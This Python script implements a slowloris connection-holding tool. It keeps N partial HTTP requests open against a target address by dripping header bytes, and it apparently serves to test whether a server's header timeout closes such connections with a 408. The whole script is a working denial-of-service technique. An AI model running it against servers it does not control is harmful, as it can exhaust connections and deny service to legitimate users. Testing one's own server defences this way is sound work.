#!/usr/bin/env python3
"""Keep N slowloris connections open against ADDR for SECONDS.

    slowloris.py N SECONDS ADDR [--interval 2] [--header-timeout 10]

One process, non-blocking sockets and a selector. Each connection sends a
partial request head (`GET / HTTP/1.1`, `Host`, then `X-Slow: `) and after
that one more byte of the header value about every --interval seconds, never
finishing the head. When the server closes a connection (EOF or reset) the
time since it was opened is recorded, along with whether `HTTP/1.1 408`
came first, and a new connection takes its place, so N stay open the whole
time. A line starting with READY is printed once the first N are open.

At the end, a summary and one `RESULT key=value ...` line: opened, closed by
the server, how many got 408, other answers, still open, the min / median /
max time-to-close. With --header-timeout T it also checks that the server
closed them through its header timeout: every close between T - 0.5 s and
T + --grace seconds (default 2) after opening, every close preceded by a
408, no connection still open longer than T + --grace at the end, and no
connect failures. Exit status: 0 if so (or if no --header-timeout was
given), 1 if not, 2 on a usage error.
"""

import argparse
import errno
import heapq
import random
import selectors
import socket
import statistics
import sys
import time

from loadclient import descriptors_for, parse_addr


class Conn:
    __slots__ = ("sock", "connected", "started", "opened", "rbuf", "got_408", "status")

    def __init__(self, sock, now):
        self.sock = sock
        self.connected = False
        self.started = now
        self.opened = now
        self.rbuf = b""
        self.got_408 = False
        self.status = None


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("n", type=int, metavar="N", help="connections to keep open")
    ap.add_argument("seconds", type=float, metavar="SECONDS", help="how long to run")
    ap.add_argument("addr", type=parse_addr, metavar="ADDR", help="HOST:PORT")
    ap.add_argument("--interval", type=float, default=2.0,
                    help="seconds between a connection's header bytes (default 2)")
    ap.add_argument("--header-timeout", type=float, default=None, metavar="T",
                    help="the server's header timeout in seconds: check closes against it")
    ap.add_argument("--grace", type=float, default=2.0,
                    help="how much later than T a close may come (default 2 s)")
    ap.add_argument("--connect-timeout", type=float, default=5.0,
                    help="seconds a connect may take (default 5)")
    args = ap.parse_args()
    if args.n < 1 or args.seconds <= 0 or args.interval <= 0:
        ap.error("N, SECONDS and --interval must be positive")

    limit = descriptors_for(args.n)
    if limit is None:
        return 1

    host, port = args.addr
    head = f"GET / HTTP/1.1\r\nHost: {host}:{port}\r\nUser-Agent: slowloris.py\r\nX-Slow: "
    head = head.encode()
    sel = selectors.DefaultSelector()
    conns = set()
    drips = []  # heap of (time, sequence, conn)
    seq = 0
    stats = {"opened": 0, "closed_by_server": 0, "got_408": 0, "other_status": 0,
             "connect_failed": 0, "bytes_dripped": 0}
    close_times = []
    other = {}
    first_connect_error = None
    rng = random.Random()

    def drip_at(conn, when):
        nonlocal seq
        seq += 1
        heapq.heappush(drips, (when, seq, conn))

    def drop(conn):
        conns.discard(conn)
        sel.unregister(conn.sock)
        conn.sock.close()

    def server_closed(conn, now):
        """The server closed it: pick up a 408 still unread, then record."""
        try:
            while True:
                data = conn.sock.recv(4096)
                if not data:
                    break
                note_data(conn, data)
        except OSError:
            pass
        stats["closed_by_server"] += 1
        if conn.got_408:
            stats["got_408"] += 1
        elif conn.status is not None:
            stats["other_status"] += 1
            other[conn.status] = other.get(conn.status, 0) + 1
        close_times.append(now - conn.opened)
        drop(conn)

    def note_data(conn, data):
        if conn.status is None:
            conn.rbuf += data[:200]
            if b"\r\n" in conn.rbuf or len(conn.rbuf) >= 64:
                conn.status = conn.rbuf.split(b"\r\n", 1)[0].decode("latin-1")[:40]
                conn.got_408 = conn.status.startswith("HTTP/1.1 408")

    def open_one(now):
        nonlocal first_connect_error
        try:
            sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET,
                                 socket.SOCK_STREAM)
        except OSError as e:
            stats["connect_failed"] += 1
            first_connect_error = first_connect_error or f"socket: {e}"
            return
        sock.setblocking(False)
        rc = sock.connect_ex((host, port))
        if rc not in (0, errno.EINPROGRESS):
            sock.close()
            stats["connect_failed"] += 1
            first_connect_error = first_connect_error or errno.errorcode.get(rc, str(rc))
            return
        conn = Conn(sock, now)
        conns.add(conn)
        sel.register(sock, selectors.EVENT_WRITE, conn)

    def on_connected(conn, now):
        nonlocal first_connect_error
        err = conn.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if err:
            stats["connect_failed"] += 1
            first_connect_error = first_connect_error or errno.errorcode.get(err, str(err))
            drop(conn)
            return
        conn.connected = True
        conn.opened = now
        stats["opened"] += 1
        try:
            conn.sock.send(head)
        except OSError:
            server_closed(conn, now)
            return
        sel.modify(conn.sock, selectors.EVENT_READ, conn)
        drip_at(conn, now + rng.uniform(0.5, 1.0) * args.interval)

    t0 = time.monotonic()
    end = t0 + args.seconds
    ready = False
    min_open = None
    next_check, next_progress = t0 + 0.1, t0 + 10.0
    print(f"slowloris: {args.n} connections to {host}:{port} for {args.seconds:g} s, "
          f"a header byte every ~{args.interval:g} s, open-files limit {limit}", flush=True)
    while True:
        now = time.monotonic()
        if now >= end:
            break
        # Keep N open (or connecting): replace what the server closed.
        missing = args.n - len(conns)
        for _ in range(min(missing, 500)):
            open_one(now)
        established = sum(1 for c in conns if c.connected) if now >= next_check else None
        if established is not None:
            next_check = now + 0.5
            if not ready and established >= args.n:
                ready = True
                print(f"READY open={established} t={now - t0:.1f}s", flush=True)
            elif ready:
                min_open = established if min_open is None else min(min_open, established)
            for conn in list(conns):
                if not conn.connected and now - conn.started > args.connect_timeout:
                    stats["connect_failed"] += 1
                    first_connect_error = first_connect_error or "connect timeout"
                    drop(conn)
        if now >= next_progress:
            next_progress = now + 10.0
            print(f"  t={now - t0:5.1f}s open={len(conns)} opened={stats['opened']} "
                  f"closed_by_server={stats['closed_by_server']} got_408={stats['got_408']}",
                  flush=True)
        while drips and drips[0][0] <= now:
            _, _, conn = heapq.heappop(drips)
            if conn not in conns:
                continue
            try:
                conn.sock.send(b"a")
                stats["bytes_dripped"] += 1
            except BlockingIOError:
                pass
            except OSError:
                server_closed(conn, now)
                continue
            drip_at(conn, now + args.interval)
        wait = 0.05
        if drips:
            wait = max(0.0, min(wait, drips[0][0] - now))
        for key, mask in sel.select(min(wait, max(0.0, end - now))):
            conn = key.data
            if conn not in conns:
                continue
            now = time.monotonic()
            if not conn.connected:
                if mask & selectors.EVENT_WRITE:
                    on_connected(conn, now)
                continue
            try:
                data = conn.sock.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                server_closed(conn, now)
                continue
            if not data:
                server_closed(conn, now)
            else:
                note_data(conn, data)

    now = time.monotonic()
    still_open = [now - c.opened for c in conns if c.connected]
    for conn in list(conns):
        drop(conn)
    sel.close()

    ht = args.header_timeout
    closed = stats["closed_by_server"]
    ttc = sorted(close_times)

    def sec(v):
        return f"{v:.2f}" if v is not None else "nan"

    fields = {"target": args.n, **stats, "still_open": len(still_open),
              "min_open": min_open if min_open is not None else "nan",
              "ttc_min": sec(ttc[0] if ttc else None),
              "ttc_median": sec(statistics.median(ttc) if ttc else None),
              "ttc_max": sec(ttc[-1] if ttc else None),
              "oldest_open": sec(max(still_open) if still_open else None)}
    problems = []
    if ht is not None:
        early = sum(1 for t in ttc if t < ht - 0.5)
        late = sum(1 for t in ttc if t > ht + args.grace)
        overdue = sum(1 for age in still_open if age > ht + args.grace)
        fields.update(early=early, late=late, overdue=overdue)
        if args.seconds > ht + args.grace and closed == 0:
            problems.append("the server closed no connection")
        if early or late:
            problems.append(f"{early} closed before {ht - 0.5:g} s, {late} after "
                            f"{ht + args.grace:g} s")
        if stats["got_408"] != closed:
            problems.append(f"{closed - stats['got_408']} of {closed} closes had no 408")
        if overdue:
            problems.append(f"{overdue} still open after more than {ht + args.grace:g} s")
        if stats["connect_failed"]:
            problems.append(f"{stats['connect_failed']} connect failures ({first_connect_error})")

    print(f"slowloris: opened {stats['opened']}, closed by the server {closed} "
          f"({stats['got_408']} with 408, {stats['other_status']} with another status"
          f"{' ' + str(other) if other else ''}), {len(still_open)} still open at the end, "
          f"{stats['connect_failed']} connect failures")
    print(f"  time to close: min {fields['ttc_min']} s, median {fields['ttc_median']} s, "
          f"max {fields['ttc_max']} s; fewest open at once after READY: {fields['min_open']}")
    for problem in problems:
        print(f"  PROBLEM: {problem}")
    print("RESULT " + " ".join(f"{k}={v}" for k, v in fields.items()), flush=True)
    return 1 if problems else 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except KeyboardInterrupt:
        sys.exit(130)
